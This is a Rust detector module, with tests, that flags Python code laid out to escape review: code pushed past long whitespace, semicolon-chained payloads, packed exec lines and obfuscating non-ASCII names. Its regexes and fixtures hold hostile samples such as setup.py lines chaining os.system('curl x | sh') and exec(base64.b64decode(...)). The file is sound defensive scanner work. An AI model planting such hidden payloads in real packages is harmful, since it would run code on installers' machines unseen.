//! `obfuscation.hidden-code`: code laid out so a reviewer does not see it —
//! statements pushed past the visible line by a long run of spaces or tabs (≥ 150
//! columns, a tab counting 8), payloads chained with semicolons after an innocent
//! statement (`from setuptools import setup; import os; os.system(…)`), very long lines
//! of code that run code (≥ 1000 bytes of code, not string data, on one line with
//! exec/eval/`__import__`), and many distinct non-ASCII identifiers in code that also
//! evaluates code (`exec`, `eval`, `__import__`: high; `getattr`/`globals()` only:
//! medium). Localized identifiers in plain code, aligned comments, whitespace inside
//! strings, string entries of a table aligned far right (literals, numbers and separators
//! only, no literal that reads as code), minified data tables and `.pth` one-liners are
//! not hidden code.
//!
//! Weighed by place: install time one step up, tests/docs at most medium, data low.
//! Python code only; token-wise (the lexer), so files that do not parse are scanned too.

use super::context;
use super::pysrc::{self, Kind, MAX_HITS_PER_FILE};
use crate::model::{Category, Severity};
use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
use regex::Regex;
use std::collections::HashSet;
use std::sync::LazyLock;

pub(crate) static META: DetectorMeta = DetectorMeta {
    id: "obfuscation.hidden-code",
    revision: 2,
    title: "Hides code from view.",
    category: Category::Obfuscation,
    severity: Severity::High,
    description: "Code pushed far past the visible edge of a line, chained after an innocent statement, packed into one enormous line, or written with unreadable non-ASCII names next to dynamic evaluation is laid out to escape review.",
};

/// Columns of whitespace before code that put it out of sight.
const HIDDEN_COLUMNS: usize = 150;
/// Bytes of code (not strings) on one line that make it a packed line.
const LONG_CODE_LINE: usize = 1000;
/// Distinct non-ASCII identifiers that make naming an obfuscation.
const NON_ASCII_IDENTS: usize = 8;

const SPACES: &str = concat!(
    "                                                  ",
    "                                                  ",
);
const TABS: &str = "\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t";

/// A sink in the chained part of a line, or on a packed line.
static RUNS_CODE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u:\b)(?:exec|eval|compile)\s*\(|__import__|(?-u:\b)(?:os\.system|os\.popen|subprocess\.\w+|urlopen|urlretrieve|b64decode|socket\.socket|requests\.(?:get|post))")
        .expect("runs code")
});
static EVALUATES: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?-u:\b)(?:exec|eval|compile)\s*\(|__import__").expect("evaluates"));
static REFLECTS: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?-u:\b)(?:getattr|setattr|globals|vars)\s*\(").expect("reflects"));

/// Whether the rest of the line from `at` (after a run of whitespace) is only string
/// literals, numbers, brackets and the punctuation that separates table entries (`,` `:`),
/// no name, and no literal whose body reads as code that runs something: an entry of a
/// translation table, a dict aligned far right, the closing brackets of a nested table.
/// Hidden code is code; a literal that is only listed runs nothing (a payload string pushed
/// out of sight, or a name or call after the run, still counts).
fn only_data(src: &pysrc::Source<'_>, t: &str, mut at: usize) -> bool {
    while at < t.len() {
        match src.span_at(at) {
            Some(span) if span.kind == Kind::Str => {
                if RUNS_CODE.is_match(&t[span.body_start..span.body_end]) {
                    return false;
                }
                at = span.end;
            }
            Some(span) if span.kind == Kind::Comment => at = span.end,
            Some(_) => return false,
            None => match t.as_bytes()[at] {
                b'\n' => break,
                b' '
                | b'\t'
                | b'\r'
                | b','
                | b':'
                | b'('
                | b')'
                | b'['
                | b']'
                | b'{'
                | b'}'
                | b'.'
                | b'-'
                | b'0'..=b'9' => at += 1,
                _ => return false,
            },
        }
    }
    true
}

fn columns(run: &str) -> usize {
    run.bytes().map(|b| if b == b'\t' { 8 } else { 1 }).sum()
}

/// `text.contains(&c.repeat(n))` (`n > 0`) by looking at every `n`-th byte only: a run of `n`
/// covers one of them, and only a sampled `c` is measured both ways. Runs on every file.
fn has_run(text: &[u8], c: u8, n: usize) -> bool {
    let mut i = n - 1;
    while i < text.len() {
        if text[i] != c {
            i += n;
            continue;
        }
        let start = text[..i].iter().rposition(|&b| b != c).map_or(0, |p| p + 1);
        let end = text[i..].iter().position(|&b| b != c).map_or(text.len(), |p| i + p);
        if end - start >= n {
            return true;
        }
        // The next run of `n` starts after `end` (a byte other than `c`), so it covers `end + n`.
        i = end + n;
    }
    false
}

pub(crate) struct HiddenCode;

impl HiddenCode {
    /// Code after ≥ [`HIDDEN_COLUMNS`] of whitespace (mid-line, or leading when the
    /// previous line does not continue into it).
    fn pushed_past_view(&self, file: &TextFile<'_>, out: &mut Vec<(usize, String, Severity)>) {
        let t = file.text;
        if !has_run(t.as_bytes(), b' ', SPACES.len()) && !has_run(t.as_bytes(), b'\t', TABS.len()) {
            return;
        }
        let src = file.source();
        let b = t.as_bytes();
        let mut i = 0;
        while i < b.len() {
            if b[i] != b' ' && b[i] != b'\t' {
                i += 1;
                continue;
            }
            let start = i;
            while i < b.len() && (b[i] == b' ' || b[i] == b'\t') {
                i += 1;
            }
            let cols = columns(&t[start..i]);
            if cols < HIDDEN_COLUMNS || i >= b.len() || matches!(b[i], b'\n' | b'\r' | b'#') {
                continue;
            }
            if !src.is_code(start) || !matches!(src.kind_at(i), Kind::Code | Kind::Str) {
                continue;
            }
            if only_data(src, t, i) {
                continue; // a literal in a table aligned far right: data, not code
            }
            let at_line_start = start == 0 || b[start - 1] == b'\n';
            if at_line_start {
                let prev = t[..start.saturating_sub(1)].trim_end_matches([' ', '\t', '\r']);
                if prev.ends_with([',', '(', '[', '{', '\\', '+', '=']) {
                    continue; // a continuation line aligned far right
                }
            }
            out.push((i, format!("code after {cols} columns of whitespace"), Severity::High));
        }
    }

    /// `a; b; c` where the chained part runs code.
    fn semicolon_chains(&self, file: &TextFile<'_>, out: &mut Vec<(usize, String, Severity)>) {
        if file.path.ends_with(".pth") || !file.text.contains(';') || !RUNS_CODE.is_match(file.text) {
            return;
        }
        let t = file.text;
        // The line of the current `;` (start, end) and whether it was judged: semicolons come in
        // order, so each line's bounds are found once, not once per `;` on it.
        let (mut ls, mut le, mut judged) = (0, 0, false);
        for at in memchr::memchr_iter(b';', t.as_bytes()) {
            if at >= le {
                ls = t[..at].rfind('\n').map_or(0, |p| p + 1);
                le = t[at..].find('\n').map_or(t.len(), |p| at + p);
                judged = false;
            }
            if judged {
                continue;
            }
            // Textual precheck on the line before lexing: two `;` and something that runs after the first.
            if t[at + 1..le].find(';').is_none() || !RUNS_CODE.is_match(&t[at..le]) {
                continue;
            }
            let src = file.source();
            if !src.is_code(at) {
                continue;
            }
            judged = true;
            let line = &t[ls..le];
            if line.len() >= LONG_CODE_LINE {
                continue; // a packed line: `packed_lines` judges it
            }
            let semis = line.match_indices(';').filter(|(k, _)| src.is_code(ls + k)).count();
            let head = t[ls..at].trim();
            if semis < 2 || head.is_empty() || RUNS_CODE.is_match(head) {
                continue;
            }
            let chained = &t[at..le];
            let Some(m) =
                RUNS_CODE.find_iter(chained).find(|m| src.is_code(at + m.start()) && !is_method(t, at + m.start()))
            else {
                continue;
            };
            let far = at - ls > 120 || t[ls..at].ends_with(&SPACES[..40]);
            let sev = if far { Severity::High } else { Severity::Medium };
            let what = m.as_str().trim_start_matches(|c: char| !c.is_alphanumeric() && c != '_');
            out.push((at + m.start(), format!("{} chained after `{}`", what.trim_end_matches('('), short(head)), sev));
        }
    }

    /// One line holding ≥ [`LONG_CODE_LINE`] bytes of code that evaluates code.
    fn packed_lines(&self, file: &TextFile<'_>, out: &mut Vec<(usize, String, Severity)>) {
        let t = file.text;
        let mut src = None;
        for (start, end) in pysrc::long_lines(t, LONG_CODE_LINE) {
            let line = &t[start..end];
            let src = *src.get_or_insert_with(|| file.source());
            let spans = src.spans();
            let first = spans.partition_point(|s| s.end <= start);
            let in_spans: usize =
                spans[first..].iter().take_while(|s| s.start < end).map(|s| s.end.min(end) - s.start.max(start)).sum();
            let code = line.len().saturating_sub(in_spans);
            if code < LONG_CODE_LINE {
                continue;
            }
            if let Some(m) =
                EVALUATES.find_iter(line).find(|m| src.is_code(start + m.start()) && !is_method(t, start + m.start()))
            {
                out.push((start + m.start(), format!("{code} bytes of code on one line"), Severity::High));
            }
        }
    }

    /// Many distinct non-ASCII identifiers in code, next to dynamic evaluation.
    fn non_ascii_names(&self, file: &TextFile<'_>, out: &mut Vec<(usize, String, Severity)>) {
        let t = file.text;
        if t.is_ascii() || !(EVALUATES.is_match(t) || REFLECTS.is_match(t)) {
            return;
        }
        let src = file.source();
        // Code ranges: the gaps between comment and string spans.
        let mut code = Vec::new();
        let mut at = 0;
        for sp in src.spans() {
            if sp.start > at {
                code.push((at, sp.start));
            }
            at = at.max(sp.end);
        }
        code.push((at, t.len()));
        if code.iter().all(|&(a, b)| t.as_bytes()[a..b].is_ascii()) {
            return;
        }
        let (mut names, mut ascii_names) = (HashSet::new(), HashSet::new());
        let mut first = None;
        for &(a, b) in &code {
            let seg = &t[pysrc::floor_char(t, a)..pysrc::floor_char(t, b)];
            let base = pysrc::floor_char(t, a);
            for (k, word) in seg.split(|c: char| !(c.is_alphanumeric() || c == '_')).scan(0usize, |pos, w| {
                let here = *pos;
                *pos += w.len() + 1;
                Some((here, w))
            }) {
                if word.is_empty() || word.starts_with(|c: char| c.is_ascii_digit()) {
                    continue;
                }
                if word.is_ascii() {
                    ascii_names.insert(word);
                } else {
                    first.get_or_insert(base + k);
                    names.insert(word);
                }
            }
            if names.len() > 10_000 {
                break;
            }
        }
        if names.len() < NON_ASCII_IDENTS || names.len() * 4 < ascii_names.len() {
            return;
        }
        let code_match = |re: &Regex| {
            re.find_iter(t).find(|m| src.is_code(m.start()) && !is_method(t, m.start())).map(|m| m.start())
        };
        let (sev, what) = match (code_match(&EVALUATES), code_match(&REFLECTS)) {
            (Some(_), _) => (Severity::High, "with exec/eval"),
            (None, Some(_)) => (Severity::Medium, "with getattr/globals"),
            _ => return,
        };
        out.push((first.unwrap_or(0), format!("{} distinct non-ASCII identifiers {what}", names.len()), sev));
    }
}

/// `obj.eval(…)`: a method, not the builtin.
fn is_method(t: &str, at: usize) -> bool {
    t[..at].ends_with('.')
}

fn short(s: &str) -> String {
    let s: String = s.chars().take(30).collect();
    s
}

impl Detector for HiddenCode {
    fn meta(&self) -> &'static DetectorMeta {
        &META
    }
    fn interest(&self) -> Interest {
        Interest::Literals(&[
            SPACES,
            TABS,
            "exec",
            "eval",
            "__import__",
            "getattr",
            "globals(",
            "system(",
            "subprocess.",
        ])
    }
    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
        if !file.is_python {
            return;
        }
        let mut found = Vec::new();
        self.pushed_past_view(file, &mut found);
        self.semicolon_chains(file, &mut found);
        self.packed_lines(file, &mut found);
        self.non_ascii_names(file, &mut found);
        found.sort_by_key(|(at, _, _)| *at);
        for (at, indicator, sev) in found.into_iter().take(MAX_HITS_PER_FILE) {
            hits.push(
                &META,
                Hit { severity: Some(context::weigh(file, sev)), evidence: pysrc::evidence(file, at, indicator) },
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::FileRole::{self, *};
    use crate::scan::detectors::testutil::{table, Want};
    use Severity::*;

    #[test]
    fn cases() {
        let pad = " ".repeat(200);
        let tabs = "\t".repeat(25);
        let pushed =
            format!("from setuptools import setup{pad}; import os; os.system('curl x | sh')\nsetup(name='x')\n");
        let pushed_tabs = format!("import os\nx = 1{tabs}; exec(payload)\n");
        let leading = format!("import os\n{pad}os.system('id')\n");
        let aligned_comment = format!("x = 1{pad}# a far comment\n");
        let in_string = format!("s = 'a{pad}b'\n");
        let trailing = format!("x = 1{pad}\ny = 2\n");
        let continuation = format!("call(a,\n{pad}b)\n");
        let packed = format!("import os;{}exec(x)\n", "a=1;".repeat(300));
        let data_table = format!("TABLE = [{}]\n", "123, ".repeat(600));
        let payload_line = format!("exec(base64.b64decode('{}'))\n", "QUJD".repeat(600));
        let cjk_obf = "甲 = __import__\n乙 = 甲('os')\n丙 = 'sys' + 'tem'\n丁 = getattr(乙, 丙)\n戊 = 1\n己 = 2\n庚 = 3\n辛 = 4\n壬 = exec\n壬('x')\n";
        let cjk_plain = "def 计算(数量, 单价):\n    总价 = 数量 * 单价\n    折扣 = 0.9\n    税率 = 0.1\n    运费 = 5\n    小计 = 总价 * 折扣\n    合计 = 小计 * (1 + 税率) + 运费\n    return 合计\n";
        let py2 = format!("print 'installing'{pad}; import os; os.system('id')\n");
        let wide = " ".repeat(221);
        let i18n_table = format!(
            "TR = {{\n 'Downloads start only when asked.': '仅在请求时下载。'\n{wide}'Cheetah '\n{wide}'模型包。',\n 'Invalid': '无效',\n}}\n"
        );
        let closing_brackets = format!("SPEC = ((1, (2, (3, 'a'\n{pad})))), (8, ')'))\n");
        let dict_aligned = format!("NAMES = {{'a': 1,{pad}'b': 2,{pad}'c': 'three'}}  # aligned\n");
        let hidden_payload = format!("TR = [\n 'a'\n{wide}'import os; os.system(\"curl x | sh\")',\n]\n");
        let call_after_literal = format!("x = 1\n{pad}'payload'.join(p); exec(x)\n");
        let cases: Vec<(&str, &str, FileRole, &str, Want)> = vec![
            (
                "pushed past the line in setup.py",
                "setup.py",
                InstallTime,
                &pushed,
                Some((1, "code after 200 columns of whitespace", Critical)),
            ),
            (
                "pushed with tabs",
                "pkg/a.py",
                Runtime,
                &pushed_tabs,
                Some((2, "code after 200 columns of whitespace", High)),
            ),
            (
                "leading whitespace",
                "pkg/a.py",
                Runtime,
                &leading,
                Some((2, "code after 200 columns of whitespace", High)),
            ),
            (
                "semicolon chain",
                "pkg/__init__.py",
                Runtime,
                "from .core import run; import os; os.system('curl x | sh')\n",
                Some((1, "os.system chained after `from .core import run`", Medium)),
            ),
            (
                "semicolon chain at install time",
                "setup.py",
                InstallTime,
                "import setuptools; import base64; exec(base64.b64decode(P))\n",
                Some((1, "exec chained after `import setuptools`", High)),
            ),
            ("packed line", "pkg/a.py", Runtime, &packed, Some((1, "1217 bytes of code on one line", High))),
            (
                "non-ASCII names with exec",
                "pkg/a.py",
                Runtime,
                cjk_obf,
                Some((1, "9 distinct non-ASCII identifiers with exec/eval", High)),
            ),
            (
                "python 2 and a syntax error",
                "pkg/a.py",
                Runtime,
                &py2,
                Some((1, "code after 200 columns of whitespace", High)),
            ),
            (
                "in tests at most medium",
                "pkg/tests/test_a.py",
                TestOrDocs,
                &leading,
                Some((2, "code after 200 columns of whitespace", Medium)),
            ),
            (
                "a payload string pushed out of sight in a table",
                "pkg/a.py",
                Runtime,
                &hidden_payload,
                Some((3, "code after 221 columns of whitespace", High)),
            ),
            (
                "a call after a literal pushed out of sight",
                "pkg/a.py",
                Runtime,
                &call_after_literal,
                Some((2, "code after 200 columns of whitespace", High)),
            ),
            // benign look-alikes
            ("translation strings continued after 221 columns", "pkg/gui/i18n.py", Runtime, &i18n_table, None),
            ("dict entries aligned far right", "pkg/a.py", Runtime, &dict_aligned, None),
            (
                "closing brackets of a nested table aligned far right",
                "guppy/heapy/Spec.py",
                Runtime,
                &closing_brackets,
                None,
            ),
            ("far comment", "pkg/a.py", Runtime, &aligned_comment, None),
            ("whitespace in a string", "pkg/a.py", Runtime, &in_string, None),
            ("trailing whitespace", "pkg/a.py", Runtime, &trailing, None),
            ("aligned continuation", "pkg/a.py", Runtime, &continuation, None),
            ("plain one-liner", "pkg/a.py", Runtime, "import os; os.system('clear')\n", None),
            ("semicolons without a sink", "pkg/a.py", Runtime, "a = 1; b = 2; c = 3\n", None),
            ("semicolons in a string", "pkg/a.py", Runtime, "s = 'a; b; exec(x)'\n", None),
            ("minified data table", "pkg/a.py", Runtime, &data_table, None),
            ("long string payload is decode-exec's", "pkg/a.py", Runtime, &payload_line, None),
            ("localized names in plain code", "pkg/a.py", Runtime, cjk_plain, None),
            ("pth one-liner", "x.pth", InstallTime, "import os; exec(os.environ.get('X', '')); print(1)\n", None),
        ];
        table(&HiddenCode, META.id, &cases);
    }

    #[test]
    fn has_run_is_contains_of_the_repeated_byte() {
        let cases: &[(&str, &str, usize)] = &[
            ("empty", "", 3),
            ("exact run", "aaa", 3),
            ("short run", "aa", 3),
            ("run at start", "   x", 3),
            ("run at end", "x   ", 3),
            ("run across a sample point", "xx    yy", 4),
            ("two short runs", "  x  x  ", 3),
            ("long run", "abcd          efgh", 10),
            ("run one short", "abcd         efgh", 10),
            ("mixed bytes", " \t \t \t", 2),
        ];
        for &(name, text, n) in cases {
            for c in [b' ', b'a', b'\t'] {
                let want = text.contains(&String::from(c as char).repeat(n));
                assert_eq!(has_run(text.as_bytes(), c, n), want, "{name} ({c}, {n})");
            }
        }
        // Every short text over two bytes, every run length.
        for len in 0..10u32 {
            for bits in 0..(1u32 << len) {
                let text: String = (0..len).map(|k| if bits >> k & 1 == 1 { ' ' } else { 'x' }).collect();
                for n in 1..6 {
                    assert_eq!(has_run(text.as_bytes(), b' ', n), text.contains(&" ".repeat(n)), "{text:?} {n}");
                }
            }
        }
    }
}
